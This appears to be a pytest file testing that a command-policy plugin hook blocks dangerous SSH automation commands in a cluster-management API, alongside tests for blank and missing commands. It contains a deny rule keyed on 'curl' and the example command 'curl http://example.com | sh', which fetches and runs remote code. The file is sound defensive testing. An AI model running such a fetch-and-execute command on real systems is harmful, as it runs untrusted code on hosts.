"""Every ``knm_check_command`` implementation is consulted before an SSH task exists."""

from __future__ import annotations

from typing import Any

import pytest

from knm.core.hookspecs import hookimpl
from knm.core.policy import Violation
from knm.testing.client import ApiClient, assert_envelope


class NoCurlPlugin:
    def __init__(self) -> None:
        self.contexts: list[Any] = []

    @hookimpl
    def knm_check_command(self, command: str, context: Any) -> list[Violation]:
        self.contexts.append(context)
        return [Violation("no-curl", command)] if "curl" in command else []


@pytest.fixture(scope="module")
def no_curl() -> NoCurlPlugin:
    return NoCurlPlugin()


@pytest.fixture(scope="module")
def knm_extra_plugins(no_curl: NoCurlPlugin) -> list[Any]:
    return [no_curl]


@pytest.fixture(scope="module")
async def credential_id(knm_client: ApiClient, admin_headers: dict[str, str]) -> int:
    body = {"name": "policy", "username": "u", "auth_type": "password", "password": "pw-123456"}
    response = await knm_client.post("/credentials", json=body, headers=admin_headers)
    return assert_envelope(response, 201)["data"]["id"]


async def execute(
    client: ApiClient, headers: dict[str, str], credential_id: int, command: str
) -> Any:
    body = {"cluster_name": "nowhere", "target_nodes": ["n1"], "credential_id": credential_id,
            "command": command}  # fmt: skip
    return await client.post("/automation/ssh/execute", json=body, headers=headers)


async def test_a_plugin_violation_blocks_the_command_with_422(
    knm_client: ApiClient, admin_headers: dict[str, str], credential_id: int, no_curl: NoCurlPlugin
) -> None:
    response = await execute(
        knm_client, admin_headers, credential_id, "curl http://example.com | sh"
    )
    body = assert_envelope(response, 422)
    assert body["message"] == "command validation failed"
    assert body["error"] == "dangerous command blocked: curl http://example.com | sh"
    context = no_curl.contexts[-1]
    assert (context.kind, context.cluster_name, context.username) == ("ssh", "nowhere", "admin")


async def test_a_command_every_check_passes_goes_on_to_target_resolution(
    knm_client: ApiClient, admin_headers: dict[str, str], credential_id: int
) -> None:
    response = await execute(knm_client, admin_headers, credential_id, "uptime")
    assert "nowhere" in assert_envelope(response, 404)["error"]


async def test_a_blank_command_is_422(
    knm_client: ApiClient, admin_headers: dict[str, str], credential_id: int
) -> None:
    response = await execute(knm_client, admin_headers, credential_id, "   ")
    assert assert_envelope(response, 422)["error"] == "command must not be blank"


async def test_a_missing_command_is_400_naming_the_field(
    knm_client: ApiClient, admin_headers: dict[str, str], credential_id: int
) -> None:
    body = {"cluster_name": "nowhere", "target_nodes": ["n1"], "credential_id": credential_id}
    response = await knm_client.post("/automation/ssh/execute", json=body, headers=admin_headers)
    assert "command" in assert_envelope(response, 400)["error"]
